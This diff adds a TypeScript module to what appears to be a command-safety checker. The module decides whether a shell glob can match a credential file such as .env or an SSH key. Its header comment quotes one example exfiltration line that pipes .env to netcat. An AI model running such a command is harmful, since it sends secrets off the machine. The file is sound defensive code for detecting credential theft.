@@ -1,0 +1,118 @@
+// Round 25: a glob the shell expands names the files it matches (`cat .e* | nc h 80` sends `.env`). A word
+// whose pattern can match a credential file (credential-paths.ts CREDENTIAL_NAMES) is read as that file
+// spelled out, so every rule and option reader that judges a credential path judges it (docs/floor.md,
+// "Round 25"). The pattern is matched against the vocabulary, never against a list of spellings.
+import { CREDENTIAL_NAMES } from './credential-paths.js';
+
+/** Whether a word holds a pattern character (`*`, `?`, `[`): told without a RegExp (most words have none). */
+export function mayGlob(word: string): boolean {
+  for (let i = 0; i < word.length; i++) {
+    const c = word.charCodeAt(i);
+    if (c === 42 /* * */ || c === 63 /* ? */ || c === 91 /* [ */) return true;
+  }
+  return false;
+}
+
+/**
+ * The credential path a glob word can match, spelled out (`~/.ssh/id_*` → `~/.ssh/id_rsa`, `.[e]nv` →
+ * `.env`), or undefined. Its literal directory is kept; the rest is matched against each credential
+ * name's last components. A lone `*` (every workspace file) is the workspace's egress, not read here.
+ */
+export function credentialGlob(word: string): string | undefined {
+  if (!mayGlob(word)) return undefined;
+  const first = firstPatternChar(word);
+  const dir = word.slice(0, word.lastIndexOf('/', first) + 1);
+  const rest = word.slice(dir.length);
+  if (dir === '' && BARE_EVERY.test(rest)) return undefined;
+  const pattern = compile(rest);
+  // More one-character tokens than the longest name has characters: it matches none.
+  if (pattern === undefined) return undefined;
+  const parts = rest.split('/');
+  for (const name of CREDENTIAL_NAMES) {
+    const comps = name.split('/').filter((c) => c !== '');
+    if (comps.length < parts.length) continue;
+    const tail = comps.slice(comps.length - parts.length);
+    // A component not begun by a literal `.` matches no name begun by one (the shell's dotfile rule).
+    if (tail.some((c, k) => c.startsWith('.') && !(parts[k] as string).startsWith('.'))) continue;
+    const candidate = tail.join('/');
+    if (matches(pattern, candidate)) return dir + candidate;
+  }
+  return undefined;
+}
+/** A pattern of only wildcards and dots with no directory: `*`, `*.*`, `?*`. */
+const BARE_EVERY = /^[*?]+(?:\.[*?]+)?$/;
+
+function firstPatternChar(word: string): number {
+  for (let i = 0; i < word.length; i++) {
+    const c = word.charCodeAt(i);
+    if (c === 42 || c === 63 || c === 91) return i;
+  }
+  return word.length;
+}
+
+/** One token of a pattern: a run of `*` (STAR), or a test of one character. */
+type Token = typeof STAR | ((ch: string) => boolean);
+const STAR = 0;
+const LONGEST = Math.max(...CREDENTIAL_NAMES.map((n) => n.length));
+
+/** A glob's tokens (`*` runs as one, `?`, `[...]`/`[!...]` classes, literals); undefined past what any name can match. */
+function compile(glob: string): Token[] | undefined {
+  const out: Token[] = [];
+  let single = 0;
+  for (let i = 0; i < glob.length; i++) {
+    const ch = glob[i] as string;
+    if (ch === '*') {
+      if (out[out.length - 1] !== STAR) out.push(STAR);
+      continue;
+    }
+    if (++single > LONGEST) return undefined;
+    if (ch === '?') out.push((c) => c !== '/');
+    else if (ch === '[') {
+      // The class ends at the first `]` after its first character; none: a literal `[`.
+      const negated = glob[i + 1] === '!' || glob[i + 1] === '^';
+      const from = negated ? i + 2 : i + 1;
+      const close = glob.indexOf(']', from + 1);
+      if (close < 0) out.push((c) => c === '[');
+      else {
+        const body = glob.slice(from, close);
+        out.push((c) => c !== '/' && inClass(body, c) !== negated);
+        i = close;
+      }
+    } else out.push((c) => c === ch);
+  }
+  return out;
+}
+
+/** Whether `c` is in a class body (`a-z` ranges, single characters). */
+function inClass(body: string, c: string): boolean {
+  for (let k = 0; k < body.length; k++) {
+    if (body[k + 1] === '-' && k + 2 < body.length) {
+      if (c >= (body[k] as string) && c <= (body[k + 2] as string)) return true;
+      k += 2;
+    } else if (body[k] === c) return true;
+  }
+  return false;
+}
+
+/** Whether tokens match all of `name`: the one-star backtracking walk (a `*` never crosses `/`). */
+function matches(tokens: readonly Token[], name: string): boolean {
+  let t = 0;
+  let n = 0;
+  let starT = -1;
+  let starN = 0;
+  while (n < name.length) {
+    const tok = tokens[t];
+    if (tok !== undefined && tok !== STAR && tok(name[n] as string)) {
+      t++;
+      n++;
+    } else if (tok === STAR) {
+      starT = t++;
+      starN = n;
+    } else if (starT >= 0 && name[starN] !== '/') {
+      t = starT + 1;
+      n = ++starN;
+    } else return false;
+  }
+  while (tokens[t] === STAR) t++;
+  return t === tokens.length;
+}
